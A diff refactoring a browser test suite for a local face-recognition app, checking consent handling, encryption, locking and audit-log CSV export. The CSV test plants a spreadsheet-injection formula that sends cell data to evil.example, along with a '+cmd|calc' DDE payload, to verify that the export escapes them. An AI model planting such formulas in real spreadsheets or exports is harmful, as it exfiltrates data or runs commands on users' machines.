@@ -1,21 +1,13 @@
 // Issue 13, "lawful by design, second round", through the real facade in Chromium (real models, real photos, real
 // IndexedDB). Where a claim is about storage, storage is read (or written) directly, not through the app.
-import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
-import type { Browser, Page } from 'playwright-core';
+import { describe, expect, inject, it } from 'vitest';
+import type { Page } from 'playwright-core';
 import { readFileSync, readdirSync } from 'node:fs';
-import {
-  WatchedPage,
-  facePath,
-  giveConsent,
-  launchBrowser,
-  openHarness,
-  readDeviceStorage,
-  waitForApp,
-} from './browser';
+import { WatchedPage, facePath, giveConsent, readDeviceStorage, waitForApp } from './browser';
+import { harnessSuite } from './suite';
+import { consentFor } from '../test-consent';
 
-let browser: Browser;
-let harness: WatchedPage;
-let page: Page;
+const harness = harnessSuite({ network: 'no-data-sent' });
 
 declare global {
   interface Window {
@@ -24,22 +16,9 @@ declare global {
   }
 }
 
-beforeAll(async () => {
-  browser = await launchBrowser();
-  harness = await openHarness(browser, inject('baseUrl'));
-  page = harness.page;
-});
-
-afterAll(async () => {
-  expect(harness.offOriginRequests()).toEqual([]);
-  expect(harness.requestsWithData()).toEqual([]);
-  await harness.close();
-  await browser.close();
-});
-
 /** Adds a row to a store of the database, directly (as another version of the app, or an attacker, might). */
 async function putDirect(database: string, store: string, value: unknown): Promise<void> {
-  await page.evaluate(
+  await harness.page.evaluate(
     async ({ database, store, value }) => {
       const db = await new Promise<IDBDatabase>((resolve, reject) => {
         const req = indexedDB.open(database);
@@ -61,7 +40,7 @@ async function putDirect(database: string, store: string, value: unknown): Promi
 describe('audit CSV (item 9)', () => {
   it('neutralises cells a spreadsheet would run as formulas, and quotes every field', async () => {
     const hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")';
-    await page.evaluate(async () => {
+    await harness.page.evaluate(async () => {
       window.lawful = await window.facelocal.openMatcher({ databaseName: 'lawful-csv' });
     });
     await putDirect('lawful-csv', 'audit', {
@@ -71,17 +50,17 @@ describe('audit CSV (item 9)', () => {
       outcome: hostile,
       personId: '+cmd|calc',
     });
-    const text = await page.evaluate(async () => (await window.lawful.exportAuditLog()).text());
+    const text = await harness.page.evaluate(async () => (await window.lawful.exportAuditLog()).text());
     const lines = text.split('\r\n').filter(Boolean);
     expect(lines[0]).toBe('"time","action","outcome","personId"');
     for (const line of lines) expect(line.startsWith('"')).toBe(true);
     const planted = lines.find((l) => l.includes('HYPERLINK'))!;
     expect(planted).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
     expect(planted.endsWith(`"'+cmd|calc"`)).toBe(true);
-    expect((await readDeviceStorage(page)).stores['lawful-csv/audit']).toContainEqual(
+    expect((await readDeviceStorage(harness.page)).stores['lawful-csv/audit']).toContainEqual(
       expect.objectContaining({ id: 'planted', outcome: hostile }),
     );
-    await page.evaluate(() => window.lawful.close()); // its workers must not stay loaded for the rest of the file
+    await harness.page.evaluate(() => window.lawful.close()); // its workers must not stay loaded for the rest of the file
   });
 });
 
@@ -97,7 +76,7 @@ async function secondTab(): Promise<Page> {
 
 /** The payload kinds of every record of the payload stores, read straight from IndexedDB. */
 async function payloadKinds(database: string): Promise<string[]> {
-  const { stores } = await readDeviceStorage(page);
+  const { stores } = await readDeviceStorage(harness.page);
   return ['people', 'templates', 'importFaces'].flatMap((s) =>
     ((stores[`${database}/${s}`] ?? []) as { payload: { kind: string } }[]).map((r) => r.payload.kind),
   );
@@ -108,22 +87,12 @@ describe('encryption that really encrypts (item 5)', () => {
     const db = 'lawful-encryption';
     const other = await secondTab();
     try {
-      await page.evaluate(async (db) => {
+      await harness.page.evaluate(async (db) => {
         window.lawful = await window.facelocal.openMatcher({ databaseName: db });
-        const consent = {
-          subjectName: 'Obama',
-          givenAt: Date.now(),
-          purpose: 'photo-library' as const,
-          purposeDetail: '',
-          method: 'checkbox' as const,
-          retention: { kind: 'days' as const, days: 30 },
-          collectedBy: 'Op',
-        };
-        await window.lawful.enrol({ name: 'Obama', consent }, [
-          new File([await (await fetch('/__faces/obama/obama.jpg')).blob()], 'obama.jpg'),
-        ]);
+        const consent = window.facelocal.consentFor('Obama');
+        await window.lawful.enrol({ name: 'Obama', consent }, [await window.facelocal.facePhoto('obama/obama.jpg')]);
       }, db);
-      const weak = await page.evaluate(async () =>
+      const weak = await harness.page.evaluate(async () =>
         window.lawful.enableEncryption('password2026').then(
           () => null,
           (e) => ({ code: e.code, message: e.message }),
@@ -141,12 +110,12 @@ describe('encryption that really encrypts (item 5)', () => {
             '_group/faceapi_bbt1.jpg',
             '_group/faceapi_bbt2.jpg',
             '_group/faceapi_bbt3.jpg',
-          ].map(async (f) => new File([await (await fetch(`/__faces/${f}`)).blob()], f.split('/')[1])),
+          ].map((f) => window.facelocal.facePhoto(f)),
         );
         const run = await window.lawful.imports.start(files);
         (window as unknown as { importDone: Promise<unknown> }).importDone = run.done;
       }, db);
-      const busy = await page.evaluate(
+      const busy = await harness.page.evaluate(
         async (pass) =>
           window.lawful.enableEncryption(pass).then(
             () => null,
@@ -156,7 +125,7 @@ describe('encryption that really encrypts (item 5)', () => {
       );
       expect(busy?.code).toBe('busy');
       expect(busy?.message).toMatch(/import is running/);
-      expect(await page.evaluate(() => window.lawful.encryption.enabled)).toBe(false);
+      expect(await harness.page.evaluate(() => window.lawful.encryption.enabled)).toBe(false);
       await other.evaluate(() => (window as unknown as { importDone: Promise<unknown> }).importDone);
       expect((await payloadKinds(db)).filter((k) => k === 'plain').length).toBeGreaterThan(2); // person, template, import faces
     } finally {
@@ -173,22 +142,14 @@ describe('encryption that really encrypts (item 5)', () => {
       }, db);
       // The other tab enrols while this one derives the key and seals: whichever lands first, nothing stays in clear.
       const [enabledMs, otherOutcome] = await Promise.all([
-        page.evaluate(async (pass) => {
+        harness.page.evaluate(async (pass) => {
           const t = performance.now();
           await window.lawful.enableEncryption(pass);
           return performance.now() - t;
         }, PASS),
         other.evaluate(async () => {
-          const consent = {
-            subjectName: 'Biden',
-            givenAt: Date.now(),
-            purpose: 'photo-library' as const,
-            purposeDetail: '',
-            method: 'checkbox' as const,
-            retention: { kind: 'days' as const, days: 30 },
-            collectedBy: 'Op',
-          };
-          const photo = new File([await (await fetch('/__faces/biden/biden.jpg')).blob()], 'biden.jpg');
+          const consent = window.facelocal.consentFor('Biden');
+          const photo = await window.facelocal.facePhoto('biden/biden.jpg');
           return window.lawful.enrol({ name: 'Biden', consent }, [photo]).then(
             (r) => (r.person ? 'enrolled' : 'refused'),
             (e) => e.code as string,
@@ -199,13 +160,13 @@ describe('encryption that really encrypts (item 5)', () => {
       const kinds = await payloadKinds(db);
       expect(kinds.length).toBeGreaterThan(0);
       expect(kinds.filter((k) => k !== 'sealed')).toEqual([]);
-      const { stores } = await readDeviceStorage(page);
+      const { stores } = await readDeviceStorage(harness.page);
       expect((stores[`${db}/settings`] as { params: { N: number; r: number } }[])[0].params).toMatchObject({
         N: 2 ** 17,
         r: 8,
       });
 
-      const unlockMs = await page.evaluate(
+      const unlockMs = await harness.page.evaluate(
         async ({ db, pass }) => {
           await window.lawful.close();
           window.lawful = await window.facelocal.openMatcher({ databaseName: db });
@@ -218,7 +179,7 @@ describe('encryption that really encrypts (item 5)', () => {
       console.log(
         `scrypt N=2^17 r=8: enable (derive + seal) ${Math.round(enabledMs)} ms, unlock (derive + verify + load) ${Math.round(unlockMs)} ms`,
       );
-      const names = await page.evaluate(async () => (await window.lawful.listPeople()).map((p) => p.name));
+      const names = await harness.page.evaluate(async () => (await window.lawful.listPeople()).map((p) => p.name));
       expect(names).toContain('Obama');
       if (otherOutcome === 'enrolled') expect(names).toContain('Biden');
     } finally {
@@ -235,7 +196,7 @@ describe('encryption that really encrypts (item 5)', () => {
       expiresAt: null,
       payload: { kind: 'plain', bytes: new Uint8Array([0x80]) },
     });
-    const error = await page.evaluate(async () =>
+    const error = await harness.page.evaluate(async () =>
       window.lawful.listPeople().then(
         () => null,
         (e) => ({ code: e.code, message: e.message }),
@@ -243,27 +204,17 @@ describe('encryption that really encrypts (item 5)', () => {
     );
     expect(error?.code).toBe('tampered');
     expect(error?.message).toMatch(/unencrypted although encryption is on/);
-    await page.evaluate(() => window.lawful.close());
+    await harness.page.evaluate(() => window.lawful.close());
   });
-});
-
-const consentFor = (name: string, days: number | null = 30) => ({
-  subjectName: name,
-  givenAt: Date.now(),
-  purpose: 'photo-library' as const,
-  purposeDetail: '',
-  method: 'checkbox' as const,
-  retention: days === null ? { kind: 'until-withdrawn' as const } : { kind: 'days' as const, days },
-  collectedBy: 'Op',
 });
 
 describe('withdrawal sticks (item 4)', () => {
   it('an older export of a person who withdrew is refused, saying who and why; the tombstone holds nothing personal', async () => {
     const db = 'lawful-tombstones';
-    const result = await page.evaluate(
+    const result = await harness.page.evaluate(
       async ({ db, consent }) => {
         window.lawful = await window.facelocal.openMatcher({ databaseName: db });
-        const photo = new File([await (await fetch('/__faces/obama/obama.jpg')).blob()], 'obama.jpg');
+        const photo = await window.facelocal.facePhoto('obama/obama.jpg');
         const { person } = await window.lawful.enrol({ name: 'Barack Obama', consent }, [photo]);
         const exported = await (await window.lawful.exportPerson(person!.id)).text();
         await window.lawful.withdrawConsent(person!.id);
@@ -286,7 +237,7 @@ describe('withdrawal sticks (item 4)', () => {
     );
     expect(result.people).toBe(0);
     expect(result.audit).toContain('import: refused: a person in the file withdrew or was erased here');
-    const { stores } = await readDeviceStorage(page);
+    const { stores } = await readDeviceStorage(harness.page);
     expect(stores[`${db}/people`]).toEqual([]);
     expect(stores[`${db}/templates`]).toEqual([]);
     const tombstones = stores[`${db}/tombstones`] as Record<string, unknown>[];
@@ -295,15 +246,15 @@ describe('withdrawal sticks (item 4)', () => {
     expect(tombstones[0]).toMatchObject({ reason: 'withdraw', key: expect.stringMatching(/^[0-9a-f]{64}$/) });
     expect(JSON.stringify(tombstones)).not.toContain(result.id);
     expect(JSON.stringify(tombstones)).not.toMatch(/Obama/i);
-    await page.evaluate(() => window.lawful.close());
+    await harness.page.evaluate(() => window.lawful.close());
   });
 
   it('a gallery made by the previous version (database version 2) opens with everything in it, and works', async () => {
     // A real person enrolled by this build, whose records are then laid out in a version-2 database exactly as the
     // previous release created it; opening it upgrades it in place.
-    const outcome = await page.evaluate(async (consent) => {
+    const outcome = await harness.page.evaluate(async (consent) => {
       const source = await window.facelocal.openMatcher({ databaseName: 'lawful-v2-source' });
-      const photo = new File([await (await fetch('/__faces/obama/obama1.jpg')).blob()], 'obama1.jpg');
+      const photo = await window.facelocal.facePhoto('obama/obama1.jpg');
       await source.enrol({ name: 'Barack Obama', consent }, [photo]);
       await source.close();
       const open = (name: string, version?: number, upgrade?: (db: IDBDatabase) => void) =>
@@ -373,10 +324,10 @@ describe('withdrawal sticks (item 4)', () => {
 describe('restriction of processing (item 2)', () => {
   it('a restricted person is kept but never matched or shown, cannot get photos, until lifted; audited both ways', async () => {
     const db = 'lawful-restrict';
-    const r = await page.evaluate(
+    const r = await harness.page.evaluate(
       async ({ db, obama, biden }) => {
         const m = (window.lawful = await window.facelocal.openMatcher({ databaseName: db }));
-        const file = async (f: string) => new File([await (await fetch(`/__faces/${f}`)).blob()], f.split('/')[1]);
+        const file = (f: string) => window.facelocal.facePhoto(f);
         const { person } = await m.enrol({ name: 'Barack Obama', consent: obama }, [
           await file('obama/obama.jpg'),
           await file('obama/obama1.jpg'),
@@ -429,19 +380,19 @@ describe('restriction of processing (item 2)', () => {
     expect(r.after).toMatchObject({ match: r.id, self: 'Barack Obama' });
     expect(r.audit).toEqual(expect.arrayContaining(['enrol', 'restrict', 'lift-restriction']));
     // While restricted nothing was erased: storage still holds the person and both templates.
-    const { stores } = await readDeviceStorage(page);
+    const { stores } = await readDeviceStorage(harness.page);
     expect((stores[`${db}/people`] as { id: string }[]).map((p) => p.id)).toContain(r.id);
     expect((stores[`${db}/templates`] as { personId: string }[]).filter((t) => t.personId === r.id)).toHaveLength(2);
-    await page.evaluate(() => window.lawful.close());
+    await harness.page.evaluate(() => window.lawful.close());
   });
 
   it('the people list shows the restriction and lifts it (app UI)', async () => {
     const ui = await harness.context.newPage();
     try {
       // The app's own gallery: enrol through the facade on the harness page (same origin), then use the app.
-      await page.evaluate(async (consent) => {
+      await harness.page.evaluate(async (consent) => {
         const m = await window.facelocal.openMatcher();
-        const photo = new File([await (await fetch('/__faces/obama/obama.jpg')).blob()], 'obama.jpg');
+        const photo = await window.facelocal.facePhoto('obama/obama.jpg');
         await m.enrol({ name: 'Barack Obama', consent }, [photo]);
         await m.close();
       }, consentFor('Barack Obama'));
@@ -470,10 +421,10 @@ describe('restriction of processing (item 2)', () => {
 describe('consent receipts (item 1)', () => {
   it('a receipt at enrolment and at withdrawal, agreeing with the export', async () => {
     const db = 'lawful-receipts';
-    const r = await page.evaluate(
+    const r = await harness.page.evaluate(
       async ({ db, consent }) => {
         const m = (window.lawful = await window.facelocal.openMatcher({ databaseName: db }));
-        const photo = new File([await (await fetch('/__faces/amy/amy1.png')).blob()], 'amy1.png');
+        const photo = await window.facelocal.facePhoto('amy/amy1.png');
         const { person } = await m.enrol({ name: 'Amy', consent }, [photo]);
         const given = await m.consentReceipt(person!.id);
         const again = await m.consentReceipt(person!.id);
@@ -481,7 +432,10 @@ describe('consent receipts (item 1)', () => {
         const withdrawn = await m.withdrawConsent(person!.id);
         return { id: person!.id, given, againId: again.receiptId, exported: exported.people[0], withdrawn };
       },
-      { db, consent: { ...consentFor('Amy Farrah Fowler', 365), purposeDetail: 'Lab access' } },
+      {
+        db,
+        consent: { ...consentFor('Amy Farrah Fowler', { days: 365, collectedBy: 'Op' }), purposeDetail: 'Lab access' },
+      },
     );
     expect(r.given.json).toMatchObject({
       version: 'KI-CR-v1.1.0',
@@ -499,7 +453,7 @@ describe('consent receipts (item 1)', () => {
     expect(r.withdrawn?.json['x-facelocal']).toMatchObject({ event: 'withdrawn', personId: r.id });
     expect(r.withdrawn?.receiptId).not.toBe(r.given.receiptId);
     expect(r.withdrawn?.html).toContain('Receipt: consent withdrawn');
-    await page.evaluate(() => window.lawful.close());
+    await harness.page.evaluate(() => window.lawful.close());
   });
 
   it('the app offers the receipt right after enrolment, as a printable page and JSON', async () => {
@@ -540,10 +494,10 @@ describe('locks that lock (item 5)', () => {
     const db = 'lawful-locks';
     const other = await secondTab();
     try {
-      await page.evaluate(
+      await harness.page.evaluate(
         async ({ db, consent, pass }) => {
           window.lawful = await window.facelocal.openMatcher({ databaseName: db });
-          const photo = new File([await (await fetch('/__faces/obama/obama.jpg')).blob()], 'obama.jpg');
+          const photo = await window.facelocal.facePhoto('obama/obama.jpg');
           await window.lawful.enrol({ name: 'Barack Obama', consent }, [photo]);
           await window.lawful.enableEncryption(pass);
         },
@@ -566,7 +520,7 @@ describe('locks that lock (item 5)', () => {
       );
       expect(otherBefore).toEqual({ lockedAtOpen: true, match: 'known' });
 
-      await page.evaluate(() => window.lawful.lock());
+      await harness.page.evaluate(() => window.lawful.lock());
       await other.waitForFunction(() => window.lawful.encryption.locked);
       const otherAfter = await other.evaluate(async () => {
         const probe = await (await fetch('/__faces/obama/obama3.jpg')).blob();
@@ -585,13 +539,16 @@ describe('locks that lock (item 5)', () => {
       expect(otherAfter).toEqual({ reasons: ['locked'], list: 'locked', identify: 'locked' });
 
       // Idle: no input and no use for the chosen time locks this tab (and so every tab).
-      await page.evaluate(async (pass) => {
+      await harness.page.evaluate(async (pass) => {
         await window.lawful.unlock(pass);
         await window.lawful.setAutoLock({ idleMs: 1500, whenHidden: false });
       }, PASS);
-      await page.waitForFunction(() => window.lawful.encryption.locked, undefined, { timeout: 30_000 });
-      expect(await page.evaluate(() => window.lawful.autoLockSetting())).toEqual({ idleMs: 1500, whenHidden: false });
-      const tooShort = await page.evaluate(() =>
+      await harness.page.waitForFunction(() => window.lawful.encryption.locked, undefined, { timeout: 30_000 });
+      expect(await harness.page.evaluate(() => window.lawful.autoLockSetting())).toEqual({
+        idleMs: 1500,
+        whenHidden: false,
+      });
+      const tooShort = await harness.page.evaluate(() =>
         window.lawful.setAutoLock({ idleMs: 5, whenHidden: false }).then(
           () => null,
           (e) => e.code,
@@ -600,17 +557,17 @@ describe('locks that lock (item 5)', () => {
       expect(tooShort).toBe('invalid-setting');
 
       // Hidden: the page going to the background locks at once.
-      await page.evaluate(async (pass) => {
+      await harness.page.evaluate(async (pass) => {
         await window.lawful.unlock(pass);
         await window.lawful.setAutoLock({ idleMs: null, whenHidden: true });
       }, PASS);
-      expect(await page.evaluate(() => window.lawful.encryption.locked)).toBe(false);
-      await page.evaluate(() => {
+      expect(await harness.page.evaluate(() => window.lawful.encryption.locked)).toBe(false);
+      await harness.page.evaluate(() => {
         Object.defineProperty(document, 'visibilityState', { configurable: true, get: () => 'hidden' });
         document.dispatchEvent(new Event('visibilitychange'));
       });
-      expect(await page.evaluate(() => window.lawful.encryption.locked)).toBe(true);
-      await page.evaluate(() => {
+      expect(await harness.page.evaluate(() => window.lawful.encryption.locked)).toBe(true);
+      await harness.page.evaluate(() => {
         delete (document as unknown as { visibilityState?: string }).visibilityState;
         return window.lawful.close();
       });
@@ -622,7 +579,7 @@ describe('locks that lock (item 5)', () => {
 
 describe('persistent storage (item 7)', () => {
   it('is asked for at the first enrolment only, and the app says whether it was granted and what that means', async () => {
-    const fresh = await WatchedPage.open(browser, inject('baseUrl'), { serveFaces: true }); // a new profile: nothing persisted yet
+    const fresh = await WatchedPage.open(harness.browser, inject('baseUrl'), { serveFaces: true }); // a new profile: nothing persisted yet
     try {
       const p = fresh.page;
       await p.goto(new URL('test/harness/', inject('baseUrl')).href);
@@ -637,7 +594,7 @@ describe('persistent storage (item 7)', () => {
         };
         const before = await navigator.storage.persisted();
         const m = await window.facelocal.openMatcher();
-        const file = async (f: string) => new File([await (await fetch(`/__faces/${f}`)).blob()], f.split('/')[1]);
+        const file = (f: string) => window.facelocal.facePhoto(f);
         const afterOpen = calls.length;
         await m.enrol({ name: 'Howard', consent: { ...consent, subjectName: 'Howard' } }, [
           await file('howard/' + 'howard1.png'),
@@ -683,10 +640,10 @@ describe('encrypted exports (item 6)', () => {
   // default two minutes on a loaded 2-core machine (it failed only in full runs). Matchers the earlier tests left
   // open (their workers and models) are now closed too.
   it('an export sealed under a chosen passphrase reads as nothing, and imports only with that passphrase', async () => {
-    const r = await page.evaluate(
+    const r = await harness.page.evaluate(
       async ({ consent, pass }) => {
         const m = await window.facelocal.openMatcher({ databaseName: 'lawful-export-from' });
-        const photo = new File([await (await fetch('/__faces/kit_harington/john1.jpeg')).blob()], 'john1.jpeg');
+        const photo = await window.facelocal.facePhoto('kit_harington/john1.jpeg');
         const { person } = await m.enrol({ name: 'Kit Harington', consent }, [photo]);
         const weak = await m.exportGallery({ passphrase: 'kit12345' }).then(
           () => null,
@@ -727,7 +684,7 @@ describe('encrypted exports (item 6)', () => {
     expect(r.peopleAfterRefusals).toBe(0);
     expect(r.imported).toEqual(['Kit Harington']);
     expect(r.audit).toContain('1 people imported');
-    const { stores } = await readDeviceStorage(page);
+    const { stores } = await readDeviceStorage(harness.page);
     expect(stores['lawful-export-to/people']).toHaveLength(1);
   }, 400_000);
 });
